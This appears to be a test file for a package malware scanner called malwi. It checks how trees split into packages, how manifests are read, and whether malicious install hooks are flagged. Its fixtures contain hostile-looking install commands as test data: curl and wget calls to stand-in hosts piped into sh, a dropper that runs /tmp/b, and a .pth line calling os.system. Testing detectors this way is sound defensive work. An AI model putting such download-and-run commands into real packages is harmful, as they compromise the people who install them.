"""Package units: a tree is many packages, each with its own verdict, and the tree's is the worst.

The trees are built in temporary folders from defanged text: nothing here is imported, installed
or run (npm scripts are read as shell, never executed).
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from malwi.engine.hooks import analyse, read_hooks
from malwi.engine.manifests import MAX_MANIFEST_BYTES, load_cfg, load_json, load_toml, read_text
from malwi.engine.units import units_of
from malwi.engine.verdict import MAX_CARRIERS
from malwi.errors import NothingScanned
from malwi.report import MalwiReport

from .conftest import EXAMPLES, run_malwi
from .conftest import write_tree as write
from .tiny_model import build_tiny_bundle

BENIGN_PY = "def add(a, b):\n    return a + b\n\n\ndef mean(values):\n    return sum(values) / len(values)\n"
BENIGN_JS = (
    "function slug(text) {\n  return text.toLowerCase().split(' ').join('-');\n}\nmodule.exports = slug;\n"
)


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_tiny_bundle(tmp_path_factory.mktemp("model") / "tiny")


def monorepo(root: Path) -> Path:
    """Four benign projects and, among them, one small defanged malicious one."""
    write(
        root,
        {
            "services/api/pyproject.toml": '[project]\nname = "api-service"\nversion = "2.0"\n',
            "services/api/api/__init__.py": BENIGN_PY,
            "services/api/api/math.py": BENIGN_PY,
            "libs/stats/setup.cfg": "[metadata]\nname = stats-lib\nversion = 1.4\n",
            "libs/stats/setup.py": "from setuptools import setup\nsetup()\n",
            "libs/stats/stats/core.py": BENIGN_PY,
            "web/package.json": json.dumps({"name": "web-app", "version": "0.3.0", "main": "index.js"}),
            "web/index.js": BENIGN_JS,
            "web/node_modules/slugger/package.json": json.dumps({"name": "slugger", "version": "1.0.0"}),
            "web/node_modules/slugger/index.js": BENIGN_JS,
            "tools/report.py": BENIGN_PY,
        },
    )
    shutil.copytree(EXAMPLES / "malicious-python", root / "vendor" / "helper-utils")
    return root


def create(path: Path, tiny: Path) -> MalwiReport:
    return MalwiReport.create(input_path=str(path), silent=True, model=tiny)


def test_units_are_found_by_manifest_distribution_and_archive(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    write(
        site,
        {
            "foo/__init__.py": "",
            "foo/util.py": "",
            "foo-1.0.dist-info/RECORD": "foo/__init__.py,sha256=x,0\nfoo/util.py,,\n../../../bin/foo,,\n",
            "loose.py": "",
            "bar/package.json": json.dumps({"name": "@scope/bar", "version": "3.1.4"}),
            "bar/lib/index.js": "",
        },
    )
    files = [str(site / f) for f in ("foo/__init__.py", "foo/util.py", "loose.py", "bar/lib/index.js")]
    manifests = [str(site / "foo-1.0.dist-info/RECORD"), str(site / "bar/package.json")]
    units, unit_of = units_of("site-packages", files, manifests, {}, lambda p: os.path.relpath(p, tmp_path))
    assert [(u.key, u.name, u.version, u.kind) for u in units] == [
        ("site-packages", "site-packages", "", "files"),
        ("site-packages/bar", "@scope/bar", "3.1.4", "npm"),
        ("site-packages/foo-1.0.dist-info", "foo", "1.0", "distribution"),
    ]
    assert {os.path.relpath(f, site): u.name for f, u in unit_of.items()} == {
        "foo/__init__.py": "foo",
        "foo/util.py": "foo",
        "loose.py": "site-packages",
        "bar/lib/index.js": "@scope/bar",
    }
    # An input archive is one unit whatever manifests it holds.
    unpacked = tmp_path / "unpacked"
    write(
        unpacked,
        {"pkg-1.0/setup.py": "", "pkg-1.0/tests/fixture/setup.py": "", "pkg-1.0/tests/fixture/x.py": ""},
    )
    inner = [str(unpacked / "pkg-1.0/setup.py"), str(unpacked / "pkg-1.0/tests/fixture/x.py")]
    units, unit_of = units_of(
        "pkg.tar.gz",
        inner,
        [str(unpacked / "pkg-1.0/setup.py"), str(unpacked / "pkg-1.0/tests/fixture/setup.py")],
        {str(unpacked): "pkg.tar.gz"},
        str,
    )
    assert [(u.key, u.kind) for u in units] == [("pkg.tar.gz", "archive")]
    assert {u.key for u in unit_of.values()} == {"pkg.tar.gz"}


def test_manifests_are_read_once_reread_when_edited_and_absent_when_hostile(tmp_path: Path) -> None:
    manifest = tmp_path / "package.json"
    manifest.write_text(json.dumps({"name": "first"}))
    assert load_json(str(manifest)) == {"name": "first"}
    # An edit (new size and time) is seen: the shared reader's cache is keyed by both.
    manifest.write_text(json.dumps({"name": "second-name"}))
    os.utime(manifest, ns=(1, 1))
    assert load_json(str(manifest)) == {"name": "second-name"}
    # Over the bound, broken, or missing: absent, never an error.
    manifest.write_text(" " * MAX_MANIFEST_BYTES + "{}")
    assert read_text(str(manifest)) is None and load_json(str(manifest)) is None
    (tmp_path / "pyproject.toml").write_text("[project\nname = 'x'")
    assert load_toml(str(tmp_path / "pyproject.toml")) is None
    assert read_text(str(tmp_path / "missing.json")) is None
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'named'\n")
    assert load_toml(str(tmp_path / "pyproject.toml")) == {"project": {"name": "named"}}
    # setup.cfg: read as data (no interpolation), absent when broken.
    (tmp_path / "setup.cfg").write_text("[metadata]\nname = pkg-%(x)s\n")
    parsed = load_cfg(str(tmp_path / "setup.cfg"))
    assert parsed is not None and parsed.get("metadata", "name") == "pkg-%(x)s"
    (tmp_path / "setup.cfg").write_text("name = no section\n")
    assert load_cfg(str(tmp_path / "setup.cfg")) is None


def test_install_scripts_are_read_as_shell() -> None:
    hook = analyse(
        "postinstall", "node -e \"require('child_process').exec('id')\" && curl -s http://x.example/a | sh"
    )
    assert hook.inline == ["require('child_process').exec('id')"]
    assert hook.evidence == [
        "downloads http://x.example/a with curl",
        "pipes what the command before printed into sh",
    ]
    assert analyse("install", "node ./scripts/setup.js --quiet").files == ["scripts/setup.js"]
    dropper = analyse("preinstall", "wget http://e.x/b -O /tmp/b && chmod +x /tmp/b && /tmp/b")
    assert dropper.evidence == [
        "downloads http://e.x/b with wget",
        "makes a file executable",
        "runs the program /tmp/b",
    ]
    assert (
        analyse("prepare", "husky install").evidence == []
        and analyse("install", "node-gyp rebuild").files == []
    )
    assert analyse("postinstall", "echo 'unterminated").evidence == []  # a broken quote is not an error
    package = {"scripts": {"test": "curl http://x | sh", "postinstall": "node i.js", "build": "tsc"}}
    assert [h.name for h in read_hooks(json.dumps(package))] == ["postinstall"]
    assert read_hooks("not json") == [] and read_hooks("[1, 2]") == []


def test_a_small_malicious_package_in_a_monorepo_is_named_and_the_others_stay_good(
    tmp_path: Path, tiny: Path
) -> None:
    report = create(monorepo(tmp_path / "repo"), tiny)
    verdicts = {u.name: u.verdict for u in report.units}
    assert verdicts == {
        "repo": "good",
        "api-service": "good",
        "stats-lib": "good",
        "web-app": "good",
        "slugger": "good",
        "helper-utils": "malicious",
    }
    assert report.verdict == "malicious" and report.malicious
    (flagged,) = report.flagged_units
    assert flagged.key.endswith("vendor/helper-utils") and flagged.statistics["scanned"] == 3
    assert report.maliciousness == flagged.maliciousness >= report.threshold
    files_of = {f.path.split("repo/", 1)[1]: f.unit for f in report.files}
    assert files_of["web/node_modules/slugger/index.js"].endswith("web/node_modules/slugger")
    assert files_of["tools/report.py"] == report.units[0].key  # outside every package: the tree's own unit
    from malwi.report.render import render

    summary = render(report, "text").splitlines()[-1]
    assert summary.startswith(
        f"=> malicious: 1 of 6 packages malicious: helper-utils {flagged.maliciousness:.2f} ("
    )
    document = report.to_dict()
    assert document["units"][0]["name"] == "helper-utils" and document["units"][0]["verdict"] == "malicious"
    assert {u["verdict"] for u in document["units"][1:]} == {"good"}
    # Only the flagged package's few carrying objects are listed, with a reason each.
    assert 1 <= len(flagged.carriers) <= MAX_CARRIERS
    assert {f["unit"] for f in document["files"]} == {flagged.key}
    listed = [(f["path"], o["name"]) for f in document["files"] for o in f["objects"]]
    assert sorted(listed) == sorted((f.path, o.name) for f, o in flagged.carriers)
    assert document["units"][0]["findings"][0]["object"] == flagged.carriers[0][1].name
    text = render(report, "text")
    assert "[malicious] helper-utils" in text and "at install time (setup.py): " in text
    assert "api-service" not in text.split("=>")[0], "good packages list nothing"


def test_a_malicious_postinstall_and_its_node_e_code_are_scanned(tmp_path: Path, tiny: Path) -> None:
    script = "node -e \"require('child_process').exec('curl http://x.example/p | sh')\""
    write(
        tmp_path / "pkg",
        {
            "package.json": json.dumps(
                {"name": "evil-npm", "version": "1.0.0", "scripts": {"postinstall": script}}
            ),
            "index.js": BENIGN_JS,
        },
    )
    report = create(tmp_path / "pkg", tiny)
    (unit,) = report.units
    assert (unit.name, unit.verdict) == ("evil-npm", "malicious")
    assert unit.hooks[0]["script"] == "postinstall" and unit.hooks[0]["inline_code"] == 1
    flagged = {f.path.split("/pkg/", 1)[1] for f in report.flagged_files}
    assert flagged == {"package.json#scripts.postinstall", "package.json#scripts.postinstall/node-e-1"}
    inline = next(f for f in report.flagged_files if f.path.endswith("node-e-1"))
    assert "PROCESS_MANAGEMENT" in inline.objects[0].activities


def test_pth_files_are_code(tmp_path: Path, tiny: Path) -> None:
    write(
        tmp_path / "site",
        {"ok.pth": "/opt/extra\n", "evil.pth": "/opt\nimport os; os.system('curl http://x.example | sh')\n"},
    )
    report = create(tmp_path / "site", tiny)
    (evil,) = report.flagged_files
    assert evil.path.endswith("evil.pth") and evil.objects[0].lines == (1, 2)
    assert "PROCESS_MANAGEMENT" in evil.objects[0].activities and report.verdict == "malicious"


def test_code_that_could_not_be_scanned_makes_its_unit_incomplete_never_good(
    tmp_path: Path, tiny: Path
) -> None:
    write(
        tmp_path / "repo",
        {"good/setup.py": "from setuptools import setup\nsetup()\n", "good/a.py": BENIGN_PY},
    )
    write(tmp_path / "repo", {"odd/pyproject.toml": '[project]\nname = "odd"\n', "odd/b.py": BENIGN_PY})
    (tmp_path / "repo/odd/blob.py").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(range(64)))
    report = create(tmp_path / "repo", tiny)
    verdicts = {u.name: u.verdict for u in report.units}
    assert verdicts == {"good": "good", "odd": "incomplete"}
    odd = next(u for u in report.units if u.name == "odd")
    assert odd.unscanned == [{"path": f"{tmp_path}/repo/odd/blob.py", "reason": "binary file"}]
    assert report.verdict == "incomplete" and not report.malicious
    result = run_malwi("scan", str(tmp_path / "repo"), "--model", str(tiny), "--no-cache")
    assert result.returncode == 3, result.stderr
    assert b"=> incomplete: 1 of 2 packages incomplete: odd (1 part not scanned)" in result.stdout
    allowed = run_malwi(
        "scan", str(tmp_path / "repo"), "--model", str(tiny), "--no-cache", "--fail-on", "malicious"
    )
    assert allowed.returncode == 0


def test_nothing_scanned_is_an_error_not_good(tmp_path: Path, tiny: Path) -> None:
    write(tmp_path / "docs", {"README.md": "# hello\n", "notes.txt": "x\n"})
    with pytest.raises(NothingScanned, match="nothing was scanned"):
        create(tmp_path / "docs", tiny)
    result = run_malwi("scan", str(tmp_path / "docs"), "--model", str(tiny), "--no-cache")
    assert (
        result.returncode == 2 and result.stderr.count(b"\n") == 1 and b"nothing was scanned" in result.stderr
    )


def test_fail_on_and_min_score_set_the_exit_code(tmp_path: Path, tiny: Path) -> None:
    write(tmp_path / "p", {"a.py": BENIGN_PY})
    base = ("scan", str(tmp_path / "p"), "--model", str(tiny), "--no-cache")
    assert run_malwi(*base).returncode == 0
    assert run_malwi(*base, "--min-score", "0.0").returncode == 1
    bad = run_malwi(*base, "--fail-on", "sometimes")
    assert bad.returncode == 2 and b"--fail-on takes malicious, suspicious, incomplete" in bad.stderr


def test_a_stealer_padded_past_the_size_limit_is_still_scanned(tmp_path: Path, tiny: Path) -> None:
    padding = "# " + "padding " * 12 + "\n"
    payload = "import os\nimport subprocess\n\ndef steal():\n    subprocess.Popen(['sh', '-c', os.environ['HOME']])\n"
    lines = 20_000
    write(tmp_path / "pkg", {"setup.py": padding * lines + payload, "pkg/__init__.py": BENIGN_PY})
    size = (tmp_path / "pkg" / "setup.py").stat().st_size
    report = MalwiReport.create(
        input_path=str(tmp_path / "pkg"), silent=True, model=tiny, max_file_size=256 * 1024
    )
    assert size > 4 * 256 * 1024
    (padded,) = [f for f in report.files if f.path.endswith("setup.py")]
    assert padded.status == "compiled"
    steal = next(o for o in padded.objects if o.name == "steal")
    assert steal.lines == (lines + 4, lines + 5)  # where it is in the whole file
    assert report.verdict == "malicious"
    assert any("setup.py: larger than the size limit" in w and "windows" in w for w in report.warnings)
    # Over the hard limit nothing is read: the package is incomplete, never good.
    from malwi._malwi import HARD_FILE_LIMIT

    with open(tmp_path / "pkg" / "setup.py", "r+b") as handle:
        handle.truncate(HARD_FILE_LIMIT + 1)  # sparse: nothing is written
    report = create(tmp_path / "pkg", tiny)
    assert report.verdict == "incomplete"
    (unit,) = report.units
    assert unit.unscanned[0]["path"].endswith("setup.py")
    assert unit.unscanned[0]["reason"].startswith("larger than the hard size limit (256.0 MB")
